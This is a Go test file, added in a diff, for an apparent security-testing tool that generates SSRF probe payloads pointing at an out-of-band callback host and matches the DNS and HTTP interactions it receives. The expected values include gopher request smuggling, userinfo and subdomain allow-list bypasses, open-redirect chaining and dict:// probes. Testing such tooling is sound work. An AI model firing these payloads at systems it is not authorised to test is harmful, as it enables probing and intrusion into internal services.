@@ -0,0 +1,58 @@
+package tools
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestSSRFVariants(t *testing.T) {
+	vs := ssrfVariants("abc.oastify.com", "t1", "app.example", "https://app.example/go?to=")
+	byName := map[string]ssrfVariant{}
+	for _, v := range vs {
+		if _, dup := byName[v.name]; dup {
+			t.Errorf("duplicate variant %s", v.name)
+		}
+		byName[v.name] = v
+		if !strings.Contains(v.payload, v.label) {
+			t.Errorf("%s payload %q lacks its label %s", v.name, v.payload, v.label)
+		}
+	}
+	for name, want := range map[string]string{
+		"http":                 "http://t1-00.abc.oastify.com/t1-00",
+		"bare-host":            "t1-03.abc.oastify.com/t1-03",
+		"gopher":               "gopher://t1-04.abc.oastify.com:80/_GET%20/t1-04%20HTTP/1.1%0D%0AHost:%20t1-04.abc.oastify.com%0D%0A%0D%0A",
+		"userinfo":             "http://app.example@t1-07.abc.oastify.com/t1-07",
+		"allowed-as-subdomain": "http://app.example.t1-08.abc.oastify.com/t1-08",
+		"redirect":             "https://app.example/go?to=http%3A%2F%2Ft1-11.abc.oastify.com%2Ft1-11",
+	} {
+		if got := byName[name].payload; got != want {
+			t.Errorf("%s = %q, want %q", name, got, want)
+		}
+	}
+
+	// An IP listener can't take a subdomain label; the path carries it.
+	vs = ssrfVariants("203.0.113.5:8000", "t2", "", "")
+	if len(vs) != 7 {
+		t.Fatalf("got %d variants for an IP callback without allowed host", len(vs))
+	}
+	if vs[0].payload != "http://203.0.113.5:8000/t2-00" || vs[5].payload != "dict://203.0.113.5:80/t2-05" {
+		t.Errorf("IP variants = %+v", vs)
+	}
+}
+
+func TestMatchInteractions(t *testing.T) {
+	vs := ssrfVariants("abc.oastify.com", "t1", "", "")
+	hits := []CollaboratorInteraction{
+		{Type: "DNS", Detail: "DNS Query: T1-00.abc.oastify.com"},
+		{Type: "HTTP", Detail: "HTTP Request: GET /t1-00 HTTP/1.1"},
+		{Type: "DNS", Detail: "DNS Query: t1-02.abc.oastify.com"},
+		{Type: "DNS", Detail: "DNS Query: abc.oastify.com"},
+	}
+	matched, unmatched := matchInteractions(vs, hits)
+	if len(matched[vs[0].label]) != 2 || len(matched[vs[2].label]) != 1 || len(matched) != 2 {
+		t.Errorf("matched = %+v", matched)
+	}
+	if len(unmatched) != 1 || unmatched[0].Detail != "DNS Query: abc.oastify.com" {
+		t.Errorf("unmatched = %+v", unmatched)
+	}
+}